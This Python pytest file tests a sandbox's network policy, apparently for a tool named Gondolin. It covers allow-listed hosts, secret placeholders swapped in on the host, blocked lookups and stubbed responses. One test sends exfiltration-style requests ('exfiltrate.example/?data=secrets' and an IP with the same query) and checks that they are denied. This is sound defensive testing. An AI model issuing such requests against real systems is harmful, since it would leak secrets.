"""The guest's network: deny by default, allow by name, secrets it never sees, every request recorded."""

from __future__ import annotations

import json
import os
import socket
import subprocess
import urllib.error
import urllib.request

import pytest

# Evaluated on the host (the guest imports this module too, where the port is irrelevant).
API = {
    "allow_hosts": ["api.demo"],
    "resolve": {"api.demo:80": f"127.0.0.1:{os.environ.get('DEMO_API_PORT', '9')}"},
}


@pytest.mark.sandboxed(**API, secrets={"DEMO_TOKEN": ["api.demo"]})
def test_allowed_host_with_a_secret(http_traffic) -> None:  # type: ignore[no-untyped-def]
    token = os.environ["DEMO_TOKEN"]  # a placeholder: the real value never enters the guest
    assert token.startswith("GONDOLIN_SECRET_DEMO_TOKEN_")
    req = urllib.request.Request(
        "http://api.demo/items?page=1", headers={"Authorization": f"Bearer {token}"}
    )
    echoed = json.load(urllib.request.urlopen(req, timeout=20))
    # The upstream received the real value (the host substituted it, for api.demo only) and
    # echoed it back; the host redacts responses too, so the guest sees only its placeholder.
    assert echoed["auth"] == f"Bearer {token}"
    curl = subprocess.run(
        ["curl", "-s", "http://api.demo/from-curl"], capture_output=True, text=True, check=True
    )
    assert json.loads(curl.stdout)["path"] == "/from-curl"
    http_traffic.assert_request_made(method="GET", host="api.demo", path="/items")
    for exchange in http_traffic.requests:  # shown by `make demo` (-rP)
        print("recorded:", exchange.summary())


@pytest.mark.sandboxed(**API)
def test_everything_else_is_denied(http_traffic) -> None:  # type: ignore[no-untyped-def]
    # The guest's DNS answers only names the policy knows: a denied host fails at its lookup.
    with pytest.raises(urllib.error.URLError) as info:
        urllib.request.urlopen("http://exfiltrate.example/?data=secrets", timeout=20)
    assert isinstance(info.value.reason, socket.gaierror)
    # A request to an address the policy does not allow: the host answers 403 itself.
    with pytest.raises(urllib.error.HTTPError) as refused:
        urllib.request.urlopen("http://203.0.113.7/?data=secrets", timeout=20)
    assert refused.value.code == 403
    lookup, connection = http_traffic.requests
    assert (lookup.host, lookup.decision) == ("exfiltrate.example", "denied")
    assert (connection.host, connection.decision) == ("203.0.113.7", "denied")
    for exchange in http_traffic.requests:
        print("recorded:", exchange.summary())


@pytest.mark.sandboxed
def test_stubbed_response(http_traffic) -> None:  # type: ignore[no-untyped-def]
    http_traffic.stub("GET", "https://api.github.com/rate_limit", json={"rate": {"remaining": 42}})
    body = subprocess.run(
        ["curl", "-s", "https://api.github.com/rate_limit"], capture_output=True, check=True
    ).stdout
    assert json.loads(body)["rate"]["remaining"] == 42  # over HTTPS: the guest trusts the host's CA
    print("recorded:", http_traffic.requests[0].summary())
